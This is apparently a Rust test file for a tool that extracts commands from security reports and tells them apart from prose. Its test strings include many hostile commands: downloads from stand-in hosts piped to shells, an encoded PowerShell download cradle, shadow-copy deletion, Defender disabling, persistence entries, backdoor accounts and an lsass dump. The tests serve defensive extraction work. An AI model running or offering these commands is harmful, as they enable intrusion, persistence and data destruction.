//! Commands as reports write them, and prose that only looks alike.

use super::*;
use crate::document::Document;

fn commands(text: &str) -> Vec<String> {
    let document = Document {
        text: text.into(),
        ..Document::default()
    };
    let mut found = Vec::new();
    scan(&Text::new(&document), &mut found);
    found.into_iter().map(|one| one.value).collect()
}

#[test]
fn a_line_or_a_quotation_may_be_a_command() {
    for command in [
        r"cmd.exe /c whoami /all > C:\temp\o.txt",
        r"rundll32.exe C:\ProgramData\evil.dll,Start",
        "regsvr32 /s /u /i:http://evil.example/x.sct scrobj.dll",
        r"schtasks /create /tn Upd /tr C:\a.exe /sc minute /mo 10",
        "certutil -urlcache -split -f http://evil.example/a.exe a.exe",
        "vssadmin delete shadows /all /quiet",
        "curl -s http://evil.example/x.sh | bash",
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y /f",
        "wmic.exe Shadowcopy Delete",
        "bcdedit /set {default} recoveryenabled No",
        "powershell -nop -w hidden -enc AAAA",
        r"C:\Windows\System32\cmd.exe /c dir",
        "chmod +x /tmp/evil",
        "python3 evil.py --host 192.0.2.1",
        "net user evil P@ss /add",
        "ping -n 5 192.0.2.1",
        r#"C:\Windows\System32\rundll32.exe" SHELL32 ShellExec_RunDLL evil"#,
        "Set-MpPreference -DisableRealtimeMonitoring $true",
    ] {
        assert_eq!(commands(command), [command]);
        assert_eq!(commands(&format!("It runs `{command}` next.")), [command]);
        assert_eq!(
            commands(&format!("Then this command runs: {command}.")),
            [command]
        );
        assert_eq!(commands(&format!("  $ {command}\n")), [command]);
    }
    assert_eq!(commands("PS C:\\Users\\x> whoami /all"), ["whoami /all"]);
    assert_eq!(commands("C:\\>whoami /all"), ["whoami /all"]);
}

#[test]
fn lists_trees_and_crontabs_hold_commands() {
    assert_eq!(
        commands("a.exe\n└── cmd.exe /c start x.bat\n    └── whoami /all"),
        ["cmd.exe /c start x.bat", "whoami /all"]
    );
    assert_eq!(
        commands("*/5 * * * * root curl -s http://a.example/x | sh\n@reboot nohup /tmp/x -d"),
        ["curl -s http://a.example/x | sh", "nohup /tmp/x -d"]
    );
    assert_eq!(
        commands("./miner -o pool.example:444 -B"),
        ["./miner -o pool.example:444 -B"]
    );
    assert_eq!(
        commands("/tmp/.x/agent -c /etc/.cfg"),
        ["/tmp/.x/agent -c /etc/.cfg"]
    );
    assert_eq!(commands("/etc/passwd is read"), [""; 0]);
}

#[test]
fn emphasis_and_single_quotes_hold_commands() {
    for text in [
        "*cmd.exe /c del /q *.tmp*",
        "it runs *cmd.exe /c del /q *.tmp* then",
        "it runs **cmd.exe /c del /q *.tmp**, then",
        "it runs 'cmd.exe /c del /q *.tmp', then",
    ] {
        assert_eq!(commands(text), ["cmd.exe /c del /q *.tmp"], "{text}");
    }
    assert_eq!(commands("'powershell -c IEX('a')'"), [""; 0]);
}

#[test]
fn a_sentence_behind_a_command_is_not_part_of_it() {
    assert_eq!(
        commands("He typed: wevtutil cl Security. Then he left."),
        ["wevtutil cl Security"]
    );
    assert_eq!(
        commands("Process: C:\\Windows\\WMIC.exe CommandLine: wmic os get /all"),
        ["wmic os get /all"]
    );
}

#[test]
fn a_command_that_a_shell_continues_is_whole() {
    for (text, command) in [
        (
            "schtasks /create /tn \"Upd\" /tr ^\n  \"C:\\a.exe -k\" /ru SYSTEM",
            "schtasks /create /tn \"Upd\" /tr \"C:\\a.exe -k\" /ru SYSTEM",
        ),
        (
            "curl -sk https://192.0.2.1/x \\\n  -H \"A: b\" \\\n  -o /var/tmp/.x\nnext",
            "curl -sk https://192.0.2.1/x -H \"A: b\" -o /var/tmp/.x",
        ),
        (
            "Get-ChildItem C:\\ -Recurse |\n  Where-Object {$_.Length}",
            "Get-ChildItem C:\\ -Recurse | Where-Object {$_.Length}",
        ),
    ] {
        assert_eq!(commands(text), [command]);
    }
}

#[test]
fn a_command_that_a_page_wrapped_is_whole() {
    for (text, command) in [
        (
            "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0A\nTwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE\nAG8AdwBu",
            "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu",
        ),
        (
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\nNT\\CurrentVersion\\Winlogon\" /v Shell /f",
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v Shell /f",
        ),
        (
            "powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -File\n\"C:\\ProgramData\\update.ps1\" -Server 192.0.2.1\nThe script then ended.",
            "powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -File \"C:\\ProgramData\\update.ps1\" -Server 192.0.2.1",
        ),
        (
            "schtasks.exe /create /sc minute /mo 10 /tn OneDriveUpdate /tr C:\\ProgramData\\od.exe\n/ru SYSTEM /f",
            "schtasks.exe /create /sc minute /mo 10 /tn OneDriveUpdate /tr C:\\ProgramData\\od.exe /ru SYSTEM /f",
        ),
    ] {
        assert_eq!(commands(text), [command]);
    }
}

#[test]
fn commands_below_each_other_stay_apart() {
    let list = "net group \"Domain Admins\" /domain\nnet group \"Domain Computer\" /domain\nwhoami /all\nnltest /domain_trusts";
    assert_eq!(commands(list), list.lines().collect::<Vec<_>>());
    assert_eq!(
        commands("cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt\nThis was seen on three hosts."),
        ["cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt"]
    );
    assert_eq!(
        commands("ping -n 5 192.0.2.1\n- an item"),
        ["ping -n 5 192.0.2.1"]
    );
}

#[test]
fn prose_that_names_a_tool_is_no_command() {
    for text in [
        "The actor uses powershell to download a file.",
        "PowerShell is used to download the payload from C:\\Temp.",
        "PowerShell and cmd.exe were seen.",
        "Python is a language.",
        "curl, wget and certutil.exe are common.",
        "rundll32.exe",
        "Find out more at https://evil.example/",
        "net income rose",
        "Start the day with /r/netsec",
        "wscript.exe and mshta.exe run C:\\a.js afterwards.",
        "bash",
    ] {
        assert_eq!(commands(text), [""; 0], "{text}");
    }
}

#[test]
fn a_cell_that_the_table_calls_a_command_is_one() {
    assert_eq!(
        commands("command_line\tevil.exe -u a -p b\tseen once"),
        ["evil.exe -u a -p b"]
    );
    assert_eq!(
        commands("command\tmakecab  lsass.dmp lsass.dmp.cab \tx"),
        ["makecab  lsass.dmp lsass.dmp.cab"]
    );
}

#[test]
fn hostile_texts_end_and_every_candidate_lies_in_the_text() {
    let more = [
        "\"cmd ",
        "`cmd /c ",
        "cmd /c \"",
        ": cmd ",
        "\t",
        "\ncmd",
        "“cmd /c é ",
        "$ ",
        "PS C:\\> ",
        "> ",
        "cmd\t/c ",
        ": ",
        "`",
        "“",
        "cmd /c a\n",
        "cmd /c a^\n",
        "*cmd /c ",
        "'cmd /c ",
        "* * * * * ",
    ];
    crate::extract::cases::endures(scan, &more);
}
